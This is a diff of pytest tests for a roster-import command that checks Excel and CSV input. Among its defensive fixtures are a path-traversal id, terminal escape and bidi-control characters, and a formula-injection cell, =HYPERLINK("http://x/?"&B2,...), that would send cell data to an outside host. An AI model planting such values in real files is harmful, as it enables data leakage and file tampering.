@@ -11,6 +11,7 @@ import csv
 import datetime as dt
 import hashlib
 import io
+import re
 import shutil
 import subprocess
 import sys
@@ -18,10 +19,12 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from conftest import clean_env
 
 from generator.cli import data as data_commands
 from generator.load.validate import load_project
 from generator.load.yamlio import read_yaml
+from generator.model.problems import one_line
 
 REPO = Path(__file__).resolve().parent.parent
 
@@ -373,3 +376,149 @@ def test_a_fill_that_a_one_line_record_can_not_take_is_a_note_not_a_stop(project
     out = capsys.readouterr().out
     assert "提示：" in out and "单行写法" in out  # the amount of m01 could not be added to its one-line record
     assert "新增 1 条" in out
+
+
+def _limited_import(*argv) -> subprocess.CompletedProcess:
+    """`dangjian import` in a process that may not take more than 1 GiB (a runaway read fails fast, not the machine)."""
+    resource = pytest.importorskip("resource")  # POSIX only
+
+    def limit():
+        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
+
+    return subprocess.run([sys.executable, "-m", "generator.cli", "import", *map(str, argv)], preexec_fn=limit,
+                          env=clean_env(), capture_output=True, text=True, encoding="utf-8", cwd=REPO, timeout=120)
+
+
+@pytest.mark.parametrize("far", ["XFD1048576", "A100001", "IW2"])
+def test_a_cell_far_outside_any_roster_is_refused_naming_the_sheet(project, tmp_path, far):
+    """A 5 KB workbook with one far cell used to build every row up to it in memory."""
+    path = tmp_path / "名册.xlsx"
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.title = "花名册"
+    ws.append(["姓名", "性别", "入党时间"])
+    ws.append(["周明", "男", "2003-02-01"])
+    ws[far] = "x"
+    book.save(path)
+    assert path.stat().st_size < 6000
+    before = _digest(project)
+    done = _limited_import("roster", path, project)
+    column, row = re.fullmatch(r"([A-Z]+)(\d+)", far).groups()
+    assert done.returncode == 1
+    assert done.stderr == (f"{path}:花名册!{far}: 工作表“花名册”在第 {row} 行、{column} 列还有内容或格式，"
+                           "远远超出一份名册或台账的范围（最多 100000 行、256 列），无法导入："
+                           "请只选中有数据的行和列，复制到一个新的工作表（或新文件）再导入\n")
+    assert _digest(project) == before
+
+
+def test_a_csv_is_held_to_the_same_bounds_and_its_trailing_commas_are_nothing(project, tmp_path, capsys):
+    far = tmp_path / "远.csv"
+    far.write_text("姓名,入党时间\n马丽,2016-07-01" + "," * 298 + "x\n", encoding="utf-8")
+    assert _cli("import", "roster", far, project) == 1
+    assert capsys.readouterr().err == (f"{far}:KN2: 这个文件在第 2 行、KN 列还有内容或格式，远远超出一份名册或台账的范围"
+                                       "（最多 100000 行、256 列），无法导入：请只选中有数据的行和列，复制到一个新的工作表（或新文件）再导入\n")
+    commas = tmp_path / "名册.csv"  # Excel's CSV keeps a comma for every empty column of the used range
+    commas.write_text("姓名,入党时间" + "," * 20000 + "\n马丽,2016-07-01" + "," * 20000 + "\n", encoding="utf-8")
+    assert _cli("import", "roster", commas, project) == 0
+    assert any(m.name == "马丽" for m in load_project(project).project.branches[0].members)
+
+
+def _typed_xlsx(path: Path, sheet: str, rows: list[list], escapes: dict[str, str] | None = None) -> Path:
+    """A sheet whose text cells are text as a user typed them (a leading "=" stays text, as after a "'"),
+    with `escapes` written into the sheet's XML as Excel writes characters XML cannot hold (`_x000B_`)."""
+    import zipfile
+
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.title = sheet
+    for r, row in enumerate(rows, start=1):
+        for c, value in enumerate(row, start=1):
+            cell = ws.cell(row=r, column=c)
+            cell.value = value
+            if isinstance(value, str):
+                cell.data_type = "s"
+    book.save(path)
+    if escapes:
+        with zipfile.ZipFile(path) as old:
+            parts = {name: old.read(name) for name in old.namelist()}
+        for placeholder, escape in escapes.items():
+            parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(placeholder.encode(), escape.encode())
+        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
+            for name, data in parts.items():
+                new.writestr(name, data)
+    return path
+
+
+def _yaml_message(key: str, value: str) -> str | None:
+    """What `check` says about this value of a roster field in a hand-written members.yml, if anything."""
+    from generator.load.fields import Checker
+    from generator.model import spec
+
+    checker = Checker("data/members.yml")
+    checker.value(value, spec.MEMBER.by_key[key], 1)
+    return checker.problems[0].message if checker.problems else None
+
+
+LONG_ID = "m" + "0" * 64
+ROSTER_CASES = {  # case: (id cell, name cell, the column and message expected at that cell)
+    "newline": ("m10", "王建国\n（退休）", "B", "“姓名”应是一行文字：请删除单元格里的换行"),
+    "dotdot-id": ("../../index", "赵六", "A",
+                  "“id”（编号）“../../index”只能由英文字母、数字、- 和 _ 组成（不超过 64 个字符），如 m01"),
+    "long-id": (LONG_ID, "赵七", "A",
+                f"“id”（编号）“{LONG_ID[:30]}…”只能由英文字母、数字、- 和 _ 组成（不超过 64 个字符），如 m01"),
+    # these follow whatever load/fields.py says of the same text in members.yml
+    "control-character": ("m11", "李ESC[31m四", "B", None),  # Excel keeps ESC as _x001B_; a terminal would obey it
+    "bidi-control": ("m12", "钱七\u202e", "B", None),
+    "long-name": ("m13", "张" * 300, "B", None),
+}
+
+
+@pytest.mark.parametrize("case", list(ROSTER_CASES))
+def test_a_bad_roster_cell_is_told_at_its_cell_as_check_would_tell_it(project, tmp_path, capsys, case):
+    """Names from someone else's sheet pass the same field checks as a hand-written members.yml."""
+    member_id, name, column, message = ROSTER_CASES[case]
+    escapes = {"ESC": "_x001B_"} if "ESC" in name else None
+    if message is None:
+        message = _yaml_message("name", name.replace("ESC", "\x1b"))
+        if message is None:
+            pytest.skip("load/fields.py does not refuse this text in members.yml either (issue 30.6/30.11)")
+    sheet = _typed_xlsx(tmp_path / "名册.xlsx", "花名册", [
+        ["编号", "姓名", "性别", "入党时间"], ["m20", "孙正", "男", "2008-07-01"], [member_id, name, "男", "2003-02-01"]],
+        escapes)
+    before = _digest(project)
+    assert _cli("import", "roster", sheet, project) == 1
+    err = capsys.readouterr().err.splitlines()
+    assert err[0] == one_line(f"{sheet}:花名册!{column}3: {message}")  # the terminal shows an ESC as \x1b
+    assert len(err) == 2 and "没有导入任何记录" in err[-1]
+    assert _digest(project) == before
+
+
+def test_what_check_finds_in_an_imported_record_is_told_at_the_sheets_cell(project, tmp_path, capsys):
+    """A rule about the whole record (here: a 纪律处分 without its date) is told at the row's cell,
+    not at a line of a members.yml that was never written."""
+    sheet = _typed_xlsx(tmp_path / "名册.xlsx", "花名册", [
+        ["姓名", "入党时间", "纪律处分情况"], ["孙正", "2008-07-01", None], ["周明", "2010-07-01", "诫勉谈话"]])
+    before = _digest(project)
+    assert _cli("import", "roster", sheet, project, "--keep-private") == 1
+    assert capsys.readouterr().err.splitlines() == [
+        f"{sheet}:花名册!A3: “discipline”（纪律处分情况）有 1 条没有写日期：每条请以年月开头，如“2026年3月 诫勉谈话”；"
+        "金榜题名按处分所在年度取消资格",
+        "导入后的数据通不过检查，没有写入任何文件。"]
+    assert _digest(project) == before
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_pointed_out(project, tmp_path, capsys):
+    formula = '=HYPERLINK("http://x/?"&B2,"点我")'
+    sheet = _typed_xlsx(tmp_path / "名册.xlsx", "花名册", [
+        ["姓名", "入党时间", "岗位", "党小组", "手机号码"],
+        [formula, "2008-07-01", "+1 岗", "@第一党小组", "+8613800000000"],
+        ["周明", "2010-07-01", "-", "-", "+8613800000001"]])
+    assert _cli("import", "roster", sheet, project, "--keep-private") == 0
+    notes = [line for line in capsys.readouterr().out.splitlines() if line.startswith("提示：")]
+    tail = "在 Excel 或 WPS 里可能被当成公式执行（如点击后把数据发往别处的链接）：请核对这一格是否本该如此；dangjian 导出的表格总把它当作文字"
+    assert notes == [  # a phone number may start with +, and a lone "-" is no formula
+        f"提示：{sheet}:花名册!A2: “姓名”“{formula}”以“=”开头，{tail}",
+        f"提示：{sheet}:花名册!C2: “工作岗位”“+1 岗”以“+”开头，{tail}",
+        f"提示：{sheet}:花名册!D2: “党小组”“@第一党小组”以“@”开头，{tail}",
+    ]
+    assert formula in [m.name for m in load_project(project).project.branches[0].members]  # a warning, not a refusal
